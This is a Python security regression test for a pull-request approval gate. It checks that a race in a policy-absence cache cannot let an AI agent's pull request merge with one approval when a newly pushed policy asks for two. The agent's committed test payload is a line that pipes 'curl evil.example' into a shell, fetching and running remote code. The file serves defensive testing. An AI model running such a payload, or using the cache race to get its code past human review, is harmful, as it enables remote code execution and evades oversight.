"""Invariant 2 (the policy that judges is the default branch's) against the policy-absence
cache (`app/github/gather.py::_policy_get`, `absent_policy_key`).

A 404 for `.github/foureyes.yml` is remembered for an hour; a push to the default branch
forgets it (`workers/gate.py::on_push`). The forgetting and the remembering race: a read
that GitHub answered 404 just before the policy landed writes the absence *after* the
push's webhook deleted it. From then on, for up to an hour, every evaluation uses the
org's (or the built-in) policy although a stricter one is on the default branch, and the
push's own re-evaluation has already run.

The agent controls when reads happen: every `/api/tokens` request reads the policy. Here
the org default asks one approval; the repository adds its own policy asking two. The
agent's token request is in flight (GitHub has answered 404) when the admin's push lands
and is processed; the maintainer's single approval then passes the agent's pull request.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import app.github.gather as gather
from app.demo.stack import local_stack
from tests.attacks.harness import ADMIN, MAINTAINER, REPO, Attack, set_up

PAYLOAD = "import os\nos.system('curl evil.example | sh')\n"
STRICT = """\
version: 1
merge:
  rules:
    - name: two humans
      require: {approvals: 2, permission: write}
"""


@pytest.fixture
def org_attack(tmp_path: Path) -> Iterator[Attack]:
    """The harness's repository, its policy in the org's `.github` repository instead."""
    with local_stack(tmp_path) as stack:
        yield set_up(stack, policy_in_org=True)


def test_r2_a_policy_landing_during_a_read_is_not_forgotten_for_an_hour(
    org_attack: Attack, monkeypatch: pytest.MonkeyPatch
):
    attack = org_attack
    agent = attack.agent("agent:acme/fixer", "alice")
    branch = f"{agent.branch_prefix}fix"
    agent.create_branch(branch, attack.main())
    agent.commit(branch, "src/app.py", PAYLOAD)
    number = agent.open_pull(branch, base="main")
    assert attack.check(number).conclusion == "action_required"

    # An hour later the remembered absence expires (its TTL; any push to main forgets it
    # too, but the push guard reads the policy again at once): the agent's next read is
    # the first to ask GitHub.
    deps = attack.stack.flask_app.extensions["foureyes"]
    assert deps.state.get(gather.absent_policy_key(REPO)) is not None
    deps.state.delete(gather.absent_policy_key(REPO))

    policy_url = f"/repos/{REPO}/contents/.github/foureyes.yml?ref=main"
    original = gather.conditional_get
    armed = [True]

    def racing(gh: Any, state: Any, url: str, **kwargs: Any) -> tuple[int, str]:
        status, body = original(gh, state, url, **kwargs)
        if armed[0] and url == policy_url and status == 404:
            armed[0] = False
            # GitHub answered 404; before this read records it, the admin's stricter
            # policy lands and its push webhook is processed (absence forgotten, every
            # open pull request re-evaluated under the new policy).
            attack.sim.push_default_branch(REPO, {".github/foureyes.yml": STRICT}, pusher=ADMIN)
        return status, body

    monkeypatch.setattr(gather, "conditional_get", racing)
    attack.agent("agent:acme/fixer", "alice")  # the agent's token request reads the policy
    assert not armed[0], "the race was not run"
    monkeypatch.setattr(gather, "conditional_get", original)

    attack.sim.review(REPO, number, MAINTAINER)  # one approval: the strict policy needs two
    run = attack.check(number)
    assert run.conclusion != "success", (
        f"#{number} passed under {run.external_id or 'a stale policy'} although "
        f".github/foureyes.yml on main asks two approvals: {run.output.get('title')}"
    )
